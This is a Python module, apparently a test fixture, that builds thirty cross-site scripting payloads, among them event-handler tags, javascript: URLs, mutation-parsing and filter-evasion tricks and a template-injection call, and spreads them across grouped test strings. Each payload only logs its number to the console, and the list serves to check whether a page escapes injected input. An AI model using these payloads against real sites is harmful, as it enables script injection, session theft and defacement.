"""Thirty ways of getting a script into a page (A30); each tells its number on the console.

Ordered so that those that leave something unclosed, and would hide what follows, come last in
each group that is written into one text.
"""

CALL = "console.error('XSS {}')"
_SHAPES = (
    "<script>{call}</script>",
    '<img src=x onerror="{call}">',
    '"><img src=x onerror={bare}>',
    "' autofocus onfocus={bare} x='",
    "javascript:{call}",
    '<svg onload="{call}"></svg>',
    "<svg><script>{call}</script></svg>",
    '<svg><animate onbegin="{call}" attributeName=x dur=1s></animate></svg>',
    '<body onload="{call}">',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe src="javascript:parent.{call}"></iframe>',
    '<details open ontoggle="{call}">x</details>',
    '<input autofocus onfocus="{call}">',
    '<video><source onerror="{call}"></video>',
    '<audio src=x onerror="{call}"></audio>',
    '<object data="javascript:parent.{call}"></object>',
    '<embed src="javascript:parent.{call}">',
    '<math><mtext><mglyph><style><img src=x onerror="{call}"></style></mglyph></mtext></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{call}">',
    '<marquee onstart="{call}">x</marquee>',
    '<a href="data:text/html,<script>{call}</script>">x</a>',
    "<scr<script>ipt>{call}</scr</script>ipt>",
    '&lt;img src=x onerror="{call}"&gt;',
    "\\u003cimg src=x onerror={bare}\\u003e",
    '{{{{constructor.constructor("{call}")()}}}}',
    '<style>@keyframes x{{}}</style><b style="animation:x" onanimationstart="{call}">x</b>',
    '<template><script>{call}</script></template><img src=x onerror="{call}"',
    "</title></textarea></style></script><script>{call}</script>",
    '<noscript><p title="</noscript><img src=x onerror={bare}>">',
    '<!--><img src=x onerror="{call}">-->',
)
PAYLOADS = tuple(
    shape.format(call=CALL.format(number), bare=f"console.error(`XSS&#32;{number}`)")
    for number, shape in enumerate(_SHAPES)
)
GROUP = 5


def texts():
    """Every payload once, some in each text: a field shows them all after as many rounds."""
    rounds = len(PAYLOADS) // GROUP
    return [" ".join(PAYLOADS[start::rounds]) for start in range(rounds)]
